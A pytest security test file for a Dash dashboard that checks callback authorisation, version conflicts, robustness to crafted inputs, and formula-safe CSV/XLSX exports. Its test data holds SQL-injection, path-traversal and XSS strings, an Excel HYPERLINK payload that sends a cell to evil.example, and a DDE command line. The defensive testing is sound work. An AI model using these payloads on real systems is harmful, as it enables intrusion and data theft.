"""Every Dash callback, called over HTTP the way an attacker or a stale page would.

Writes: every callback that saves something, called by an anonymous visitor (401), a viewer
(refused, nothing written) and an inspector of another township (refused); stale and missing
versions refused. Reads and writes alike: crafted values in every input answer a message or no
update, never an HTTP 500, and the database is unchanged by any of it.
"""

from __future__ import annotations

import base64

import pytest
from sqlalchemy import select

from dashboard.store.db import session_scope
from tests.conftest import TEST_PASSWORDS
from tests.dash_http import call, callback_body, csrf_header, log_in, text_of
from tests.db_state import data_hash

# A value of each shape a crafted request can carry, for every input and state of a callback.
CRAFTED = [None, "", "x" * 5000, -1, 10**20, 3.5, True, [], ["a", None], {}, {"id": "1 OR 1=1"},
           "../../etc/passwd", "<script>alert(1)</script>", "data:;base64,!!!", float("nan")]


def table_hash(url: str) -> str:
    """Every row of every table but the audit log (refusals may be audited; the data itself must
    not move) and the schema version: equal means untouched."""
    return data_hash(url, skip=("alembic_version", "audit_log"))


def simple_callbacks(app) -> list[str]:
    """Outputs ("id.property") of the callbacks whose ids are plain strings (not pattern-matching)."""
    outs = []
    for key, entry in app.callback_map.items():
        if "{" in key or "callback" not in entry:  # pattern-matching, or run in the browser
            continue
        first = entry["output"][0] if isinstance(entry["output"], list) else entry["output"]
        outs.append(f"{first.component_id}.{first.component_property.split('@')[0]}")
    return outs


# Write callbacks: (output that identifies the callback, inputs that make it write).
def _upload(data: bytes) -> str:
    return "data:application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;base64," + \
        base64.b64encode(data).decode()


def write_calls(settings) -> dict[str, dict]:
    from dashboard.ingest.sites_excel import template_bytes

    with session_scope(settings.database_url) as s:
        from sqlalchemy import select

        from dashboard.store.models import ActionItem, Meeting, Unit

        # An item of a unit other than 侯寨乡, the test inspector's township.
        item = s.scalar(select(ActionItem).join(Unit, Unit.id == ActionItem.responsible_unit_id)
                        .where(ActionItem.status == "in_progress", Unit.name != "侯寨乡").order_by(ActionItem.id))
        meeting = s.scalar(select(Meeting).order_by(Meeting.number.desc()))
        item_row = {"id": str(item.id), "version": item.version, "status": item.status}
        meeting_ref = {"number": meeting.number, "version": meeting.version}
    from dashboard.analytics import reading
    from dashboard.analytics.township_air import assignment_table

    with reading(settings.database_url) as s:
        township = assignment_table(s)[0][0]
    selected = {"id": township.township_id, "token": township.token, "name": township.name}
    from dashboard.services.access import Actor
    from dashboard.services.display import create_token, list_tokens

    if "hall" not in {row.name for row in list_tokens(settings)}:
        create_token(settings, Actor.system(), "hall")  # an active token for the revoke to act on
    return {
        "admin-rules-targets-message.children": {
            "admin-rules-targets-save.n_clicks": 1, "admin-rules-target-year.value": 2025,
            "admin-rules-target-pm25.value": 40, "admin-rules-target-pm10.value": 65,
            "admin-rules-target-share.value": 80, "admin-rules-target-heavy.value": 5},
        "admin-rules-plates-message.children": {
            "admin-rules-plates-save.n_clicks": 1, "admin-rules-window-days.value": 14,
            "admin-rules-red-failures.value": 3, "admin-rules-red-overdue-rectifications.value": 1,
            "admin-rules-yellow-failures.value": 1, "admin-rules-yellow-open-rectifications.value": 1,
            "admin-rules-red-on-working-during-stop.checked": True},
        "admin-rules-rect-message.children": {
            "admin-rules-rect-save.n_clicks": 1, "admin-rules-deadline-days.value": 1,
            "admin-rules-repeat-window-days.value": 30, "admin-rules-repeat-cap.value": 1,
            "admin-rules-late-thresholds.value": "0", "admin-rules-max-level.value": "3"},
        "admin-rules-wall-message.children": {"admin-rules-wall-save.n_clicks": 1, "admin-rules-wall-stale.value": 30},
        "admin-rules-photos-message.children": {"admin-rules-photos-save.n_clicks": 1,
                                                "admin-rules-max-distance-m.value": 800,
                                                "admin-rules-max-hours.value": 12},
        "admin-rules-dust-message.children": {
            "admin-rules-dust-save.n_clicks": 1, "admin-rules-dust-pm10-above-enabled.checked": True,
            "admin-rules-dust-pm10-excess-enabled.checked": True, "admin-rules-dust-offline-enabled.checked": True,
            "admin-rules-dust-pm10-above-limit.value": 200, "admin-rules-dust-pm10-above-hours.value": 3,
            "admin-rules-dust-pm10-excess-margin.value": 100, "admin-rules-dust-pm10-excess-hours.value": 2,
            "admin-rules-dust-offline-minutes.value": 30},
        "admin-checklist-load-message.children": {"admin-checklist-load.n_clicks": 1,
                                                  "admin-checklist-refresh.data": 0},
        "sites-upload-result.children": {"sites-upload.contents": _upload(template_bytes()),
                                         "sites-upload.filename": "sites.xlsx", "sites-refresh.data": 0},
        "insp-import-result.children": {"insp-import-upload.contents": _upload(template_bytes()),
                                        "insp-import-upload.filename": "paper.xlsx"},
        "ledger-updated.data": {"ledger-grid.cellValueChanged": [{
            "colId": "status_label", "value": "已完成", "data": {**item_row, "status_label": "推进中"}}]},
        "meeting-freeze-message.children": {"meeting-freeze-air.n_clicks": 1, "meeting-ref.data": meeting_ref},
        "adm-ts-recompute-message.children": {"adm-ts-recompute.n_clicks": 1},
        "adm-ts-message.children": {"adm-ts-save.n_clicks": 1, "adm-ts-selected.data": selected,
                                    "adm-ts-stations.value": ["1316A"]},
        "admin-display-created.children": {"admin-display-create.n_clicks": 1, "admin-display-name.value": "hall-2"},
        "admin-display-revoke-message.children": {"admin-display-revoke-confirm.n_clicks": 1,
                                                  "admin-display-pending.data": "hall"},
        "admin-rules-dusthealth-message.children": {"admin-rules-dusthealth-save.n_clicks": 1,
                                                    "admin-rules-dusthealth-offline-minutes.value": 60,
                                                    "admin-rules-dusthealth-stuck-count.value": 12},
        "admin-dust-added.children": {"admin-dust-add.n_clicks": 1, "admin-dust-mn.value": "410103TEST0001",
                                      "admin-dust-site.value": "GD-0001", "admin-dust-password.value": "123456"},
        # The demo's first monitor, on an active site.
        "admin-dust-remove-message.children": {"admin-dust-remove-confirm.n_clicks": 1,
                                               "admin-dust-pending.data": "410103DUST00000000000001"},
    }


WRITERS = ["admin-rules-targets-message.children", "admin-rules-plates-message.children",
           "admin-rules-rect-message.children", "admin-rules-wall-message.children",
           "admin-rules-photos-message.children",
           "admin-rules-dust-message.children",
           "admin-checklist-load-message.children",
           "sites-upload-result.children", "insp-import-result.children", "ledger-updated.data",
           "meeting-freeze-message.children", "adm-ts-recompute-message.children", "adm-ts-message.children",
           "admin-display-created.children", "admin-display-revoke-message.children",
           "admin-rules-dusthealth-message.children", "admin-dust-added.children",
           "admin-dust-remove-message.children"]


def test_anonymous_callback_calls_get_401_and_write_nothing(demo):
    app, settings = demo
    client = app.server.test_client()
    calls = write_calls(settings)  # may add what the calls act on: hashed after it
    before = table_hash(settings.database_url)
    for output in WRITERS:
        response = client.post("/_dash-update-component", json=callback_body(app, output, calls[output]))
        assert response.status_code == 401, output
    assert table_hash(settings.database_url) == before


@pytest.mark.parametrize("user", ["viewer", "inspector"])
def test_viewers_and_inspectors_cannot_write_what_is_not_theirs(demo, user):
    """A viewer may write nothing; the 侯寨乡 inspector none of these (editor-only, or another
    township's ledger item)."""
    app, settings = demo
    client = app.server.test_client()
    log_in(client, user, TEST_PASSWORDS[user])
    calls = write_calls(settings)  # may add what the calls act on: hashed after it
    before = table_hash(settings.database_url)
    for output in WRITERS:
        response = call(client, app, output, calls[output])
        assert response.status_code == 200, output
        said = text_of(response)
        assert any(word in said for word in ("权限", "不属于您负责", "只能", "不能")), (output, said[:300])
    assert table_hash(settings.database_url) == before


def test_a_stale_or_missing_version_is_refused_through_the_endpoint(demo):
    app, settings = demo
    client = app.server.test_client()
    log_in(client, "editor", TEST_PASSWORDS["editor"])
    calls = write_calls(settings)
    before = table_hash(settings.database_url)
    row = calls["ledger-updated.data"]["ledger-grid.cellValueChanged"][0]
    for version in (None, row["data"]["version"] - 1, "1"):
        event = {**row, "data": {**row["data"], "version": version}}
        response = call(client, app, "ledger-updated.data", {"ledger-grid.cellValueChanged": [event]})
        assert response.status_code == 200
        said = text_of(response)
        assert "未保存" in said or "没有保存" in said or "他人" in said, (version, said[:300])
    ref = calls["meeting-freeze-message.children"]["meeting-ref.data"]
    for version in (None, "2"):
        response = call(client, app, "meeting-freeze-message.children",
                        {"meeting-freeze-air.n_clicks": 1, "meeting-ref.data": {**ref, "version": version}})
        assert "版本" in text_of(response)
    assert table_hash(settings.database_url) == before


@pytest.mark.parametrize("user", ["viewer", "editor"])
def test_crafted_values_in_every_callback_never_give_a_500(demo, user):
    app, settings = demo
    client = app.server.test_client()
    log_in(client, user, TEST_PASSWORDS[user])
    before = table_hash(settings.database_url)
    outputs = simple_callbacks(app)
    assert len(outputs) > 30
    failures, calls = [], 0
    for output in outputs:
        body = callback_body(app, output)
        names = [f"{d['id']}.{d['property']}" for d in body["inputs"] + body["state"]]
        for value in CRAFTED:
            response = client.post("/_dash-update-component", headers=csrf_header(client),
                                   json=callback_body(app, output, dict.fromkeys(names, value)))
            calls += 1
            if response.status_code >= 500:
                failures.append(f"{output} <- {value!r:.40}")
    assert not failures, f"{len(failures)} of {calls} crafted calls answered 5xx: {failures[:10]}"
    if user == "viewer":
        assert table_hash(settings.database_url) == before


def test_the_sites_page_downloads_never_carry_a_live_formula(demo):
    """A site's name and address are whatever someone typed or uploaded, so a crafted one reaches
    the file: it must arrive as text, not as a formula Excel would run."""
    import io

    from openpyxl import load_workbook

    from dashboard.store.models import Site

    app, settings = demo
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with session_scope(settings.database_url) as session:
        site = session.scalars(select(Site).order_by(Site.id).limit(1)).one()
        site.name, site.address, code = attack, "+cmd|' /C calc'!A0", site.code
    client = app.server.test_client()
    log_in(client, "viewer", TEST_PASSWORDS["viewer"])
    for button, suffix in (("sites-export-csv", ".csv"), ("sites-export-xlsx", ".xlsx")):
        response = call(client, app, "sites-download.data",
                        {f"{button}.n_clicks": 1, "sites-search.value": code}, changed=[f"{button}.n_clicks"])
        sent = response.get_json()["response"]["sites-download"]["data"]
        assert sent["filename"].endswith(suffix) and sent["base64"]
        content = base64.b64decode(sent["content"])
        if suffix == ".csv":
            cells = [c for line in content.decode("utf-8-sig").splitlines() for c in line.split(",")]
        else:
            sheet = load_workbook(io.BytesIO(content)).active
            cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
        texts = [c.strip('"') for c in cells]
        assert not any(c.startswith(("=", "+", "@")) for c in texts), texts
        assert any("HYPERLINK" in c for c in texts)
